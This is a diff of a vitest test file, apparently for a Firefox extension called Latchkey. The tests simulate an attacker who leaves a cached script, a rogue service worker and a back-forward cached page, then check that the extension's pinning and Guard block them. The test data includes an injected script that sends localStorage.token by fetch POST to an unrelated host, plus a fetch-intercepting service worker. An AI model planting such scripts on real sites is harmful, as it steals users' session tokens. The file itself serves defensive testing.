@@ -1,4 +1,4 @@
-// What an attacker left in the browser, who has gone since: a stored script, a service worker, a page kept whole.
+// What an attacker left in the browser before leaving: a stored script, a service worker, a whole page.
 import { afterEach, expect, it } from "vitest";
 import { attack, SECRET } from "../lab/attacker";
 import { NAIVE } from "../lab/strategies";
@@ -11,17 +11,17 @@ import { pin } from "./user";
 
 afterEach(closeBrowser);
 
-const HIS_PAGE = "his script was here";
-it.each(WAYS)("a script of his that the browser has kept: %s", async (_, isGuarded) => {
+const ATTACKER_TITLE = "the attacker's script was here";
+it.each(WAYS)("a script of the attacker's that the browser has stored: %s", async (_, isGuarded) => {
   const { instance, page } = await startUnpinned();
-  const steal = `document.title = '${HIS_PAGE}'; fetch('https://${UNRELATED}/x', { method: 'POST', mode: 'no-cors', body: localStorage.token });`;
+  const steal = `document.title = "${ATTACKER_TITLE}"; fetch('https://${UNRELATED}/x', { method: 'POST', mode: 'no-cors', body: localStorage.token });`;
   const loot = await attack(lab, instance, NAIVE, {
     authority: lab.publicAuthority,
     names: [UNRELATED],
     scripts: { "/static/app.js": steal },
     headers: { "Cache-Control": "public, max-age=86400" },
   });
-  await page.goto(`${instance.url}cached`); // before anybody pinned, and before there was anything to steal
+  await page.goto(`${instance.url}cached`); // before the pin, and before there was anything to steal
   await page.evaluate(`localStorage.token = '${SECRET}'`);
   leave(instance);
   if (isGuarded) await pinAndGuard(instance, page);
@@ -32,12 +32,12 @@ it.each(WAYS)("a script of his that the browser has kept: %s", async (_, isGuard
       () => page.url(),
       (url) => !url.startsWith(instance.url) || url.endsWith("cached"),
     );
-    expect(await page.title()).not.toBe(HIS_PAGE);
+    expect(await page.title()).not.toBe(ATTACKER_TITLE);
     expect(loot.secrets()).toBe(0);
   }
 });
 
-const HIS_WORKER = `
+const ATTACKER_WORKER = `
 addEventListener('install', (event) => event.waitUntil(skipWaiting()));
 addEventListener('activate', (event) => event.waitUntil(clients.claim()));
 addEventListener('fetch', (event) => {
@@ -50,24 +50,24 @@ addEventListener('fetch', (event) => {
 const WORKER_WAYS: [way: string, isGuarded: boolean, isCleared: boolean][] = [
   ["while the instance is only watched", false, false],
   ["under Guard", true, false],
-  ["under Guard, where what its switch offers is taken", true, true],
+  ["under Guard, after the clearing that its switch offers", true, true],
 ];
 it.each(WORKER_WAYS)(
-  "a worker of his from before the pin is gone, and sees nothing: %s",
+  "a worker of the attacker's from before the pin is gone, and sees nothing: %s",
   async (_, guarded, isCleared) => {
-    // A careful one: nothing of his stays in the cache, where it would be evidence. Firefox keeps a page's icon whatever
-    // its headers say, so his has none.
+    // A careful attacker leaves nothing in the cache, where it would be evidence. Firefox keeps a page's icon despite its
+    // headers, so the attacker's page has none.
     const { instance, page } = await startUnpinned({ prefs: { "browser.chrome.site_icons": false } });
     const means = { authority: lab.publicAuthority, names: [UNRELATED], headers: { "Cache-Control": "no-store" } };
-    const loot = await attack(lab, instance, NAIVE, { ...means, scripts: { "/his.js": HIS_WORKER } });
+    const loot = await attack(lab, instance, NAIVE, { ...means, scripts: { "/attacker.js": ATTACKER_WORKER } });
     await page.goto(instance.url);
     await page.evaluate(
-      "navigator.serviceWorker.register('/his.js').then(() => navigator.serviceWorker.ready).then(() => undefined)",
+      "navigator.serviceWorker.register('/attacker.js').then(() => navigator.serviceWorker.ready).then(() => undefined)",
     );
     leave(instance);
     if (guarded) await pinAndGuard(instance, page, isCleared);
     else await pin(firefox, instance);
-    // The page that is open comes from his worker, perhaps: it is loaded again, which may interrupt the next one.
+    // The open page may come from the attacker's worker. Latchkey reloads it, which may interrupt the next visit.
     await page.goto(instance.url).catch(() => undefined);
     await firefox.buttonShows("Latchkey: verified");
     await until(
@@ -79,14 +79,14 @@ it.each(WORKER_WAYS)(
   },
 );
 
-it("shows no page of his that the browser has kept whole for the way back", async () => {
+it("shows no page of the attacker's that the browser has kept whole for going back", async () => {
   const { instance, page } = await startUnpinned({ prefs: { "fission.bfcacheInParent": true } });
   const began = Date.now();
   await pin(firefox, instance);
   await untilChecked(firefox, instance, began);
   await attack(lab, instance, NAIVE);
   await page.goto(instance.url);
-  await page.evaluate("globalThis.his = true");
+  await page.evaluate("globalThis.attacker = true");
   await page.goto(`https://${UNRELATED}/`);
   leave(instance);
   const popup = await firefox.extensionPage(`popup.html?address=${instance.host}`);
